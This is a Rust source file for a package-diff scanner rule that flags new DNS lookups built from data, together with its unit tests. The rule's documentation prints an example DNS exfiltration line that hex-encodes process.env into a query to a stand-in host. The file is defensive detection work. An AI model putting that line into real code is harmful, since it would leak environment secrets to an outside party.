//! `new-dns-from-data`: The package newly resolves DNS names built from data.

use turncoat_finding::{Finding, Level, RuleDoc, Severity};

use super::{DiffCx, Weight, capability_rule};
use crate::facts::Capability;

pub(crate) const RULE: RuleDoc = RuleDoc {
    code: "new-dns-from-data",
    group: "analyze",
    severity: Severity::High,
    default_level: Level::Deny,
    summary: "The package newly resolves DNS names built from data.",
    doc: r#"Flags `dns.resolve*(name)` / `dns.lookup(name)` where `name` is a template literal with substitutions, a concatenation, a call result or a variable, when the previous version never did.

**Why it matters.** This is the shape of DNS exfiltration: `dns.resolve(`${chunk}.${id}.exfil.example`)` leaks data through the query itself. GuardDog has no Node rule for it.

**Example.** `dns.resolve(Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60) + '.x.example')`.

**How to silence.** Silence it for one package with a policy exception on `new-dns-from-data` for `name@version`, after reading the new code."#,
};

pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
    out.extend(capability_rule(
        cx,
        &RULE,
        Capability::DnsFromData,
        Weight::Single,
        |_| true,
    ));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::*;

    #[test]
    fn fires_when_the_package_gains_it() {
        let f = diff_index(
            r#"const dns = require('dns'); dns.lookup('example.com', () => {});"#,
            r#"const dns = require('dns'); const id = 'a'; dns.resolve(`${id}.x.example`, () => {});"#,
        );
        let hit = find(&f, RULE.code).expect("finding");
        assert!(hit.message.contains("pkg 1.0.0"), "{}", hit.message);
        assert_eq!(hit.evidence[0].path, "index.js");
    }

    #[test]
    fn quiet_when_it_was_already_there() {
        let f = diff_index(
            r#"const dns = require('dns'); function f(h) { dns.lookup(h, () => {}); }"#,
            r#"const dns = require('dns'); function f(h) { dns.lookup(h, () => {}); } const z = 1;"#,
        );
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }
}
